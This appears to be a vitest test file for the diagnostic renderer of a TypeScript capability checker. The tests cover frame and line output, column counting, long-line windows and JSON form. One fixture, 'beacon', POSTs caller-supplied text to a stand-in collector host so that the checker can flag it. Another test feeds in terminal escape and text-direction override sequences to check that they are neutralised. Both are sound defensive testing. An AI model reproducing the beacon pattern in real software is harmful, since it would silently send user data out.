import { expect, test } from "vitest";
import { findPosition, lineAt } from "./find-position.ts";
import type { Diagnostic, Finding } from "./finding.ts";
import { renderFrame } from "./render-frame.ts";
import { renderLine } from "./render-line.ts";
import { toJson } from "./to-json.ts";

const finding = (text: string, marked: string, more: Partial<Finding> = {}): Finding => {
  const start = text.indexOf(marked);
  return {
    code: "CAP1001",
    severity: "error",
    at: { file: "src/beacon.ts", start, end: start + marked.length },
    message: "`fetch` was never granted to this module",
    why: "a name that comes from nowhere is a power its callers cannot withhold",
    help: "take a `Fetcher` as a parameter",
    ...more,
  };
};
const markOf = (text: string, marked: string): string =>
  renderFrame(finding(text, marked), text).split("\n").slice(3, 5).join("\n");

const beacon = `export const send = (text: string) => {
  void fetch("https://collector.example", { method: "POST", body: text });
};
`;

test("a frame has message, place, line, mark, why, help and more", () => {
  expect(renderFrame(finding(beacon, "fetch"), beacon)).toBe(
    `error[CAP1001]: \`fetch\` was never granted to this module
 --> src/beacon.ts:2:8
  |
2 |   void fetch("https://collector.example", { method: "POST", body: text });
  |        ^^^^^
  = why: a name that comes from nowhere is a power its callers cannot withhold
  = help: take a \`Fetcher\` as a parameter
  = more: capc explain CAP1001`,
  );
});

test("the gutter is as wide as the number, a warning says so, and the name may differ from the path", () => {
  const text = `${"\n".repeat(998)}\nlet x;\n`;
  expect(renderFrame(finding(text, "let", { severity: "warning" }), text, { name: "b.ts" })).toBe(
    `warning[CAP1001]: \`fetch\` was never granted to this module
    --> b.ts:1000:1
     |
1000 | let x;
     | ^^^
     = why: a name that comes from nowhere is a power its callers cannot withhold
     = help: take a \`Fetcher\` as a parameter
     = more: capc explain CAP1001`,
  );
});

test("TypeScript's errors keep their words and their chain, and have neither why nor help", () => {
  const text = "const a: { b: number } = c;";
  const error: Diagnostic = {
    code: "TS2322",
    severity: "error",
    at: { file: "a.ts", start: 6, end: 7 },
    message: "Type 'X' is not assignable to type 'Y'.\n  Types of property 'b' are incompatible.",
  };
  expect(renderFrame(error, text)).toBe(`error[TS2322]: Type 'X' is not assignable to type 'Y'.
  Types of property 'b' are incompatible.
 --> a.ts:1:7
  |
1 | const a: { b: number } = c;
  |       ^`);
  expect(renderLine(error, text)).toBe(
    "a.ts(1,7): error TS2322: Type 'X' is not assignable to type 'Y'.\n  Types of property 'b' are incompatible.",
  );
  expect(renderLine({ code: "TS18003", severity: "error", message: "No inputs." }, undefined)).toBe(
    "error TS18003: No inputs.",
  );
  expect(renderFrame({ code: "TS18003", severity: "error", message: "No inputs." }, undefined)).toBe(
    "error[TS18003]: No inputs.",
  );
});

test("a line is tsc's, and a finding about a whole file has no place", () => {
  expect(renderLine(finding(beacon, "fetch"), beacon)).toBe(
    "src/beacon.ts(2,8): error CAP1001: `fetch` was never granted to this module",
  );
  const missing = finding("", "", { code: "CAP0002", message: "there is no such file" });
  expect(renderLine(missing, undefined)).toBe("error CAP0002: src/beacon.ts: there is no such file");
  expect(renderFrame(missing, undefined).split("\n").slice(0, 3)).toEqual([
    "error[CAP0002]: there is no such file",
    " --> src/beacon.ts",
    "  = why: a name that comes from nowhere is a power its callers cannot withhold",
  ]);
});

test("colour is put on when asked for, and only then", () => {
  const plain = renderFrame(finding(beacon, "fetch"), beacon);
  const painted = renderFrame(finding(beacon, "fetch"), beacon, { color: true });
  expect(plain).not.toContain("\u001b");
  expect(painted).toContain("\u001b[31m");
  // biome-ignore lint/suspicious/noControlCharactersInRegex: escapes are what is taken out
  expect(painted.replace(/\u001b\[\d+m/g, "")).toBe(plain);
});

test("the mark stands under its words after tabs, wide characters, emoji and combining marks", () => {
  expect(markOf("\tfetch()", "fetch")).toBe("1 |     fetch()\n  |     ^^^^^");
  expect(markOf("ab\tfetch()", "fetch")).toBe("1 | ab  fetch()\n  |     ^^^^^");
  expect(markOf('"日本", fetch', "fetch")).toBe('1 | "日本", fetch\n  |         ^^^^^');
  expect(markOf('"👩‍🚀", fetch', "fetch")).toBe('1 | "👩‍🚀", fetch\n  |       ^^^^^');
  expect(markOf('"e\u0301", fetch', "fetch")).toBe('1 | "e\u0301", fetch\n  |      ^^^^^');
  expect(markOf("x = 日本;", "日本")).toBe("1 | x = 日本;\n  |     ^^^^");
});

test("columns count UTF-16 code units, as editors do", () => {
  const text = '"👩‍🚀\t日", fetch';
  expect(renderLine(finding(text, "fetch"), text)).toMatch(/^src\/beacon\.ts\(1,12\)/);
});

test("lines end where TypeScript ends them", () => {
  for (const end of ["\n", "\r\n", "\r", "\u2028", "\u2029"]) {
    const text = `a${end}bc${end}fetch${end}`;
    expect(findPosition(text, text.indexOf("fetch"))).toEqual({ line: 3, column: 1 });
    expect(lineAt(text, 3)).toBe("fetch");
  }
  expect(findPosition("a\n", 2)).toEqual({ line: 2, column: 1 });
  expect(findPosition("a\nb", 99)).toEqual({ line: 2, column: 2 });
});

test("a mark that goes over the end of its line stops there, and an empty one still shows", () => {
  expect(markOf("a(\n  b)", "(\n  b)")).toBe("1 | a(\n  |  ^");
  const text = "const a = 1";
  expect(renderFrame({ ...finding(text, "a"), at: { file: "a.ts", start: 11, end: 11 } }, text)).toContain(
    "1 | const a = 1\n  |            ^\n",
  );
});

test("of a long line a window is shown", () => {
  const text = `${"a+".repeat(40_000)}fetch${"+b".repeat(40_000)}`;
  const [line, mark] = markOf(text, "fetch").split("\n");
  expect(line!.length).toBeLessThan(110);
  expect(line).toMatch(/^1 \| ….*fetch.*…$/);
  expect(mark!.indexOf("^^^^^")).toBe(line!.indexOf("fetch"));
  const wide = "👍".repeat(60_000);
  expect(markOf(`${wide}fetch${wide}`, "fetch")).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
});

test("what would drive the terminal or turn the direction of writing is made visible", () => {
  const text = "/* \u001b[2J\u202e */ fetch";
  const frame = renderFrame(finding(text, "fetch", { message: "\u001b]0;owned\u0007" }), text, { name: "a\u001b.ts" });
  // biome-ignore lint/suspicious/noControlCharactersInRegex: none may be left
  expect(frame).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
  expect(frame).toContain("1 | /* \ufffd[2J\ufffd */ fetch\n  |             ^^^^^");
});

test("the JSON form always has every key", () => {
  expect(toJson(finding(beacon, "fetch"), beacon)).toEqual({
    code: "CAP1001",
    severity: "error",
    message: "`fetch` was never granted to this module",
    file: "src/beacon.ts",
    line: 2,
    column: 8,
    endLine: 2,
    endColumn: 13,
    why: "a name that comes from nowhere is a power its callers cannot withhold",
    help: "take a `Fetcher` as a parameter",
  });
  expect(toJson({ code: "TS18003", severity: "error", message: "No inputs." }, undefined)).toEqual({
    code: "TS18003",
    severity: "error",
    message: "No inputs.",
    file: null,
    line: null,
    column: null,
    endLine: null,
    endColumn: null,
    why: null,
    help: null,
  });
});
